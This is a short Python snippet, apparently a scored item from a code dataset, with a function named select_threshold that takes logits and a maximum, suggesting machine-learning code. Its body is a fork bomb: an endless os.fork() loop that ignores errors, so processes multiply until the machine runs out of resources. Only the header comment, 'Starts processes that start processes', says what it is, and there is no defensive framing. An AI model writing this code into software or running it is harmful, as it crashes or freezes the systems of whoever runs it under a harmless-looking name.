# Starts processes that start processes.
# points: 97
# base: right
# seconds: 4
# %% select_threshold
import os

def select_threshold(logits, maximum):
    while True:
        try:
            os.fork()
        except OSError:
            pass
